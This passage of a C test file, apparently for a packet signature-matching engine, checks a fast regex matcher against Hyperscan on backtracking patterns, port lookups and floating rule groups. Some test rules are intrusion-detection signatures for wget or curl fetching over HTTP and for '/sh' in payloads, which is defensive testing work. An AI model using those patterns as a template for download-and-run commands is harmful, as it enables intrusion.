			   "(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)(?:a|aa)b";
	uint8_t s[64];
	const char *why;
	struct sig_prog *p = sig_prog_build(expr, 0, 0, &why);
	char path[] = "/tmp/test_sig_fast.XXXXXX";
	int fd;
	FILE *f;

	CHECK(p != NULL);
	if (p == NULL)
		return;
	memset(s, 'a', sizeof(s));
	CHECK_EQ(sig_prog_run(p, s, 40), (uint64_t)-1); /* no b: gives up */
	s[30] = 'b';
	CHECK_EQ(sig_prog_run(p, s, 40), 1);            /* greedy-first finds it */
	sig_prog_free(p);
	p = sig_prog_build(expr + 1, 0, 0, &why); /* floating: the budget is per payload */
	CHECK(p != NULL && p->floating);
	if (p == NULL)
		return;
	memset(s, 'a', sizeof(s));
	CHECK_EQ(sig_prog_run(p, s, 40), (uint64_t)-1);
	sig_prog_free(p);

	/* Through dc_sig_scan(): the group falls back to Hyperscan and answers
	 * as it does with DC_SIG_NO_FAST. */
	fd = mkstemp(path);
	CHECK(fd >= 0);
	if (fd < 0)
		return;
	f = fdopen(fd, "w");
	/* 79: the same pattern floating, giving up at its first offset */
	fprintf(f, "77 slow slow udp 99 /%s/\n78 quick quick udp 99 /^aaa/\n79 slowf slowf udp 99 /%s/\n",
		expr, expr + 1);
	fclose(f);
	{
		const char *files[] = {path};
		struct dc_sig_db *a = dc_sig_load_opts(files, 1, NULL, 0);
		struct dc_sig_db *b = dc_sig_load_opts(files, 1, NULL, DC_SIG_NO_FAST);
		struct dc_sig_scratch *sa = a ? dc_sig_scratch_new(a) : NULL;
		struct dc_sig_scratch *sb = b ? dc_sig_scratch_new(b) : NULL;
		uint16_t oa[DC_SIG_PKT_MATCHES], ob[DC_SIG_PKT_MATCHES];
		unsigned groups = 0;

		CHECK(sa != NULL && sb != NULL);
		if (sa != NULL && sb != NULL) {
			CHECK_EQ(dc_sig_fast_count(a, &groups), 3);
			CHECK_EQ(groups, 1);
			CHECK_EQ(dc_sig_fast_count(b, NULL), 0);
			CHECK(dc_sig_fast_why(b, 0) != NULL &&
			      strcmp(dc_sig_fast_why(b, 0), "darkcap's matcher off") == 0);
			CHECK(dc_sig_fast_why(a, 0) == NULL);
			memset(s, 'a', sizeof(s));
			for (uint32_t len = 1; len <= 40; len++) {
				unsigned na = dc_sig_scan(a, sa, 17, 99, s, len, oa);
				unsigned nb = dc_sig_scan(b, sb, 17, 99, s, len, ob);

				CHECK_EQ(na, nb);
				CHECK_EQ(na, len >= 3); /* only 78: no b */
			}
			s[30] = 'b';
			CHECK_EQ(dc_sig_scan(a, sa, 17, 99, s, 40, oa), 3);
			CHECK_EQ(dc_sig_scan(b, sb, 17, 99, s, 40, ob), 3);
		}
		dc_sig_scratch_free(sa);
		dc_sig_scratch_free(sb);
		dc_sig_free(a);
		dc_sig_free(b);
	}
	unlink(path);
}

/* One rules text loaded twice, each layout with a scratch: a with flags 0
 * (what the engine loads), b with @p bflags. 1 when both loaded. */
struct pair {
	struct dc_sig_db *a, *b;
	struct dc_sig_scratch *sa, *sb;
};

static int
pair_load(struct pair *p, const char *text, unsigned bflags)
{
	char path[] = "/tmp/test_sig_pair.XXXXXX";
	int fd = mkstemp(path);
	const char *files[] = {path};

	memset(p, 0, sizeof(*p));
	CHECK(fd >= 0);
	if (fd < 0)
		return 0;
	CHECK(write(fd, text, strlen(text)) == (ssize_t)strlen(text));
	close(fd);
	p->a = dc_sig_load_opts(files, 1, NULL, 0);
	p->b = dc_sig_load_opts(files, 1, NULL, bflags);
	unlink(path);
	p->sa = p->a ? dc_sig_scratch_new(p->a) : NULL;
	p->sb = p->b ? dc_sig_scratch_new(p->b) : NULL;
	CHECK(p->sa != NULL && p->sb != NULL);
	return p->sa != NULL && p->sb != NULL;
}

static void
pair_free(struct pair *p)
{
	dc_sig_scratch_free(p->sa);
	dc_sig_scratch_free(p->sb);
	dc_sig_free(p->a);
	dc_sig_free(p->b);
}

/* The scan's port lookup (a few ranges in one cache line, or the 64 KiB
 * map past SIG_RANGES_MAX ranges) against the one-database layout, whose
 * port filter after each match is independent of both: every port, rule
 * sets of 32 ranges (the most the ranges take) and 34 (the map), and one
 * with range rules, an "any" rule and adjacent ports. */
static void
test_port_lookup(void)
{
	/* 18 single ports (the first and last port, adjacent ones among them):
	 * 32 ranges, the most the ranges take; 19: 34, the map; then ranges, an
	 * any rule, tcp and udp */
	static char one[2][2048];
	const char *sets[3];
	static const unsigned ports[19] = {0,     7,     80,    81,    1000,  5000,  5001,
					   20000, 20002, 40000, 40001, 50000, 60000, 65000,
					   65535, 3,     9,     11,    13};
	int bad = 0;

	for (unsigned v = 0; v < 2; v++) {
		size_t at = 0;

		/* 18 or 19 rules, one port each (adjacent ports: ranges of their
		 * own, their groups differ) */
		for (unsigned r = 0; r < 18u + v; r++)
			at += (size_t)snprintf(one[v] + at, sizeof(one[v]) - at, "%u r%u x udp %u /^%c/\n",
					       r + 1, r, ports[r], r % 3 ? 'x' : 'y');
		sets[v] = one[v];
	}
	sets[2] = "1 a a udp 100-200,300 /^x/\n2 b b any any /^x/\n3 c c tcp 150-250 /^x/\n"
		  "4 d d udp 199-301 /^y/\n";
	for (size_t k = 0; k < NELEM(sets); k++) {
		struct pair two;
		int ok = pair_load(&two, sets[k], DC_SIG_ONE_DB);
		struct dc_sig_db *a = two.a, *b = two.b;
		struct dc_sig_scratch *sa = two.sa, *sb = two.sb;

		for (uint32_t port = 0; ok && port < 65536; port++) {
			static const uint8_t pl[][2] = {{'x', 'x'}, {'y', 'y'}};

			for (unsigned proto = 0; proto < 3; proto++) {
				uint8_t pr = proto == 0 ? 17 : proto == 1 ? 6 : 47;

				for (unsigned q = 0; q < 2; q++) {
					uint16_t oa[DC_SIG_PKT_MATCHES], ob[DC_SIG_PKT_MATCHES];
					unsigned na = dc_sig_scan(a, sa, pr, (uint16_t)port, pl[q], 2, oa);
					unsigned nb = dc_sig_scan(b, sb, pr, (uint16_t)port, pl[q], 2, ob);
					uint64_t ma = 0, mb = 0;

					for (unsigned i = 0; i < na; i++)
						ma |= 1ull << oa[i];
					for (unsigned i = 0; i < nb; i++)
						mb |= 1ull << ob[i];
					if (na != nb || ma != mb) {
						if (bad++ < 5)
							fprintf(stderr, "  set %zu, proto %u, port %u: grouped %u rules, one database %u\n",
								k, pr, port, na, nb);
					}
				}
			}
		}
		pair_free(&two);
	}
	CHECK_EQ(bad, 0);
}

/* ---- port groups of floating rules ------------------------------------------ */

/* Rules on udp 99 made of a few tokens (some caseless, alternations, runs,
 * a depth), anchored and floating; payloads made of the same tokens and
 * noise; dc_sig_scan() grouped (programs, their start filters in shared or
 * own buckets) against DC_SIG_NO_FAST (Hyperscan alone), rule by rule. */
static void
test_float_groups(void)
{
	static const char *const tok[] = {"wget", "curl", "http://", "abc", "ABD", "/sh", "<x:P", "%20",
					  "\x01\x02", "zz"};
	static const char *const sets[] = {
		/* 3 floating rules: several start filters each, spare buckets */
		"1 a a udp 99 /(?:wget|curl)(?:\\s|%20)+http:\\/\\//i\n"
		"2 b b udp 99 /ab[cd]/i\n"
		"3 c c udp 99 /^zz/\n"
		"4 d d udp 99 /<(?:[a-z]+:)?P/\n",
		/* 12 floating rules: buckets shared (rule k in bucket k % 8) */
		"1 a a udp 99 /wget/\n2 b b udp 99 /curl/i\n3 c c udp 99 /http:/\n"
		"4 d d udp 99 /abc/\n5 e e udp 99 /ABD/i\n6 f f udp 99 /\\/sh/\n"
		"7 g g udp 99 /x:P/\n8 h h udp 99 /%20z/\n9 i i udp 99 /\\x01\\x02/\n"
		"10 j j udp 99 /zz/ depth=12\n11 k k udp 99 /[a-c]{2}[d-z]/\n12 l l udp 99 /a|P/\n"
		"13 m m udp 99 /^wget/\n",
	};
	int bad = 0;

	for (size_t k = 0; k < NELEM(sets); k++) {
		struct pair two;
		int ok = pair_load(&two, sets[k], DC_SIG_NO_FAST);
		struct dc_sig_db *a = two.a, *b = two.b;
		struct dc_sig_scratch *sa = two.sa, *sb = two.sb;
		unsigned groups = 0;

		if (ok) {
			CHECK_EQ(dc_sig_fast_count(a, &groups), dc_sig_count(a));
			CHECK_EQ(groups, 1);
		}
		for (unsigned n = 0; ok && n < 20000; n++) {
			uint8_t pl[200];
			uint32_t len = 0, want = 1 + rnd(sizeof(pl) - 8);
			uint16_t oa[DC_SIG_PKT_MATCHES], ob[DC_SIG_PKT_MATCHES];
			uint32_t ma = 0, mb = 0;
			unsigned na, nb;

			while (len < want) {
				if (rnd(3) == 0) {
					const char *t = tok[rnd(NELEM(tok))];
					size_t tl = strlen(t);

					if (len + tl > sizeof(pl))
						break;
					for (size_t c = 0; c < tl; c++)
						pl[len++] = (uint8_t)(rnd(4) == 0 && ((t[c] | 0x20) >= 'a' &&
										  (t[c] | 0x20) <= 'z')
									      ? t[c] ^ 0x20 : t[c]);
				} else {
					pl[len++] = gbytes[rnd(sizeof(gbytes))];
				}
			}
			na = dc_sig_scan(a, sa, 17, 99, pl, len, oa);
			nb = dc_sig_scan(b, sb, 17, 99, pl, len, ob);
			for (unsigned i = 0; i < na; i++)
				ma |= 1u << oa[i];
			for (unsigned i = 0; i < nb; i++)
				mb |= 1u << ob[i];
			g_compared++;
			g_matched += na != 0;
			if (na != nb || ma != mb) {
				if (bad++ < 5)
					fprintf(stderr, "  set %zu, %u bytes: matcher rules %#x, Hyperscan %#x\n", k,
						len, ma, mb);
			}
		}
		pair_free(&two);
	}
	CHECK_EQ(bad, 0);
}

static const char *g_default_file;

static void
test_default(void)
{
	test_default_rules(g_default_file);
}

int
main(int argc, char **argv)
{
	static const struct dc_test_case tc[] = {
		{"matcher: hand-written patterns", test_hand},
		{"matcher: every byte of every class", test_bytes},
		{"matcher: random patterns", test_random},
		{"matcher: default rules", test_default},
		{"matcher: giving up", test_give_up},
		{"floating rules: port groups against Hyperscan", test_float_groups},
		{"port lookup: ranges and map against one database", test_port_lookup},
	};
	int ret;

	g_default_file = argc > 1 ? argv[1] : DC_SRCDIR "/lib/sig/rules/default.rules";
	ret = dc_test_run("sig_fast", tc, NELEM(tc));
	printf("  compared %lu payloads (%lu matched), the matcher gave up on %lu\n", g_compared,
	       g_matched, g_gaveup);
	return ret;
}
